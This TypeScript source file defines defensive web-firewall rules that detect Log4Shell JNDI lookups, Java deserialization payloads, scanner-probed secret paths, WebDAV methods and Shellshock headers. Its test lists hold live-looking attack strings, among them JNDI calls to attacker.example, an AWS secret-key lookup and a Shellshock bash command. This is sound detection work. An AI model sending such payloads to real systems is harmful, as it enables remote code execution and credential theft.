import { patternRule, type WafRule } from './waf-rule.js';

/** In the spirit of AWS's AWSManagedRulesKnownBadInputsRuleSet (without its Host: localhost rule). */

/** Log4Shell lookups hide `jndi` behind nested lookups: `${${lower:j}ndi:`, `${::-j}`, `${env:X:-j}`. */
function collapseLookups(s: string): string {
  let out = s;
  for (let i = 0; i < 5; i++) {
    const next = out
      .replace(/\$\{(?:lower|upper|main|sys|env|date|ctx|web|bundle|k8s|docker|spring|jvmrunargs|marker|sd|map|log4j)?:[^${}]*?:-([^${}]*)\}/gi, '$1')
      .replace(/\$\{(?:lower|upper):([^${}]*)\}/gi, '$1')
      .replace(/\$\{::-([^${}]*)\}/g, '$1');
    if (next === out) break;
    out = next;
  }
  return out;
}

const LOOKUP = /\$\{\s*(?:jndi|lower|upper|env|sys|java|date|base64|main|ctx|web|bundle|k8s|docker|spring|log4j|marker|sd|jvmrunargs)\s*:/i;

export const log4shell: WafRule = {
  id: 'known_bad_inputs.log4j',
  description: 'Log4Shell: ${jndi:...} lookups and their obfuscations (nested lookups, ::- defaults)',
  inspects: ['path', 'query', 'header', 'body', 'file_name', 'url', 'question'],
  matches: (variants) =>
    variants.some((v) => v.includes('${') && (LOOKUP.test(v) || /\$\{::-/.test(v) || /\$\{jndi:/i.test(collapseLookups(v)))),
  attacks: ['${jndi:ldap://attacker.example/a}', '${${lower:j}ndi:${lower:l}dap://x.example/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}', '${${env:NaN:-j}ndi${env:NaN:-:}ldap://x.example/a}', '%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D', '${jndi:dns://x.example}', '${env:AWS_SECRET_ACCESS_KEY}', '$%7Bjndi:ldap://x.example/a%7D'],
  noFire: ['echo $HOME', 'what does ${HOME} expand to', 'use ${VAR:-default} in the script', 'set PS1="${debian_chroot:+($debian_chroot)}"', 'price is $5 {approx}'],
};

export const javaDeserialization = patternRule({
  id: 'known_bad_inputs.java_deserialization',
  description: 'Java serialized objects (AC ED 00 05, base64 rO0AB) and gadget class names',
  inspects: ['path', 'query', 'header', 'body', 'file_name', 'url', 'question'],
  patterns: [/\brO0AB[A-Za-z0-9+/]/, /\baced0005[0-9a-f]{4}/i, /\xac\xed\x00\x05/, /\b(?:org\.apache\.commons\.collections\.functors|ysoserial|java\.lang\.Runtime\b.*\bexec)/i],
  attacks: ['rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==', 'aced00057372001', 'org.apache.commons.collections.functors.InvokerTransformer', 'ysoserial CommonsCollections5'],
  noFire: ['Java runtime settings', 'ace d0005 code', 'rO0 model'],
});

export const exploitablePaths = patternRule({
  id: 'known_bad_inputs.exploitable_paths',
  description: 'Paths scanners probe: VCS folders, dotfiles with secrets, WordPress, CGI, PHP and admin consoles',
  inspects: ['path'],
  patterns: [
    /\/\.(?:git|svn|hg|bzr|env|aws|ssh|docker|htaccess|htpasswd|npmrc|DS_Store|idea|vscode)(?:\/|$|\.)/i,
    /\/(?:wp-admin|wp-login|wp-content|wp-includes|xmlrpc\.php|wordpress)\b/i,
    /\/cgi-bin\//i,
    /\.(?:php\d?|phtml|asp|aspx|jsp|jspx|cgi|pl|sh|bak|old|swp|sql)(?:$|[/;])/i,
    /\/(?:phpmyadmin|pma|adminer|actuator|server-status|server-info|manager\/html|jmx-console|solr\/admin|_ignition|vendor\/phpunit|boaform|HNAP1|console\/login|\.well-known\/security\.txt\.php)\b/i,
    /\/(?:web|app)\.config$/i,
  ],
  attacks: ['/.git/config', '/.env', '/wp-admin/setup-config.php', '/cgi-bin/luci', '/index.php', '/phpmyadmin/index.php', '/actuator/env', '/.aws/credentials', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/server-status', '/backup.sql', '/HNAP1/'],
  noFire: ['/api/manuals', '/assets/index-3f2a.js', '/api/manuals/abc/pages/3.png', '/manuals/ask', '/api/docs', '/api/openapi.json'],
});

const BAD_METHODS = new Set(['PROPFIND', 'PROPPATCH', 'MKCOL', 'COPY', 'MOVE', 'LOCK', 'UNLOCK', 'TRACE', 'TRACK', 'DEBUG', 'CONNECT', 'SEARCH', 'MKACTIVITY', 'CHECKOUT', 'MERGE', 'REPORT']);

export const badMethods: WafRule = {
  id: 'known_bad_inputs.http_method',
  description: 'WebDAV and diagnostic methods (PROPFIND, TRACE, TRACK, DEBUG, ...) the API never uses',
  inspects: ['method'],
  matches: (_variants, v) => BAD_METHODS.has(v.value.toUpperCase()),
  attacks: ['PROPFIND', 'TRACE', 'TRACK', 'DEBUG', 'MKCOL'],
  noFire: ['GET', 'POST', 'DELETE', 'HEAD', 'OPTIONS', 'PUT', 'PATCH'],
};

export const shellshock = patternRule({
  id: 'known_bad_inputs.shellshock',
  description: 'Shellshock function definitions in headers or fields: () { :; };',
  inspects: ['header', 'query', 'body', 'file_name', 'path'],
  patterns: [/\(\s*\)\s*\{\s*[^}]*;\s*\}\s*;/],
  attacks: ['() { :; }; /bin/bash -c "id"', '() { :;}; echo vulnerable'],
  noFire: ['function () { return 1 }', 'f() {}'],
});

export const knownBadInputsRules: readonly WafRule[] = [log4shell, javaDeserialization, exploitablePaths, badMethods, shellshock];
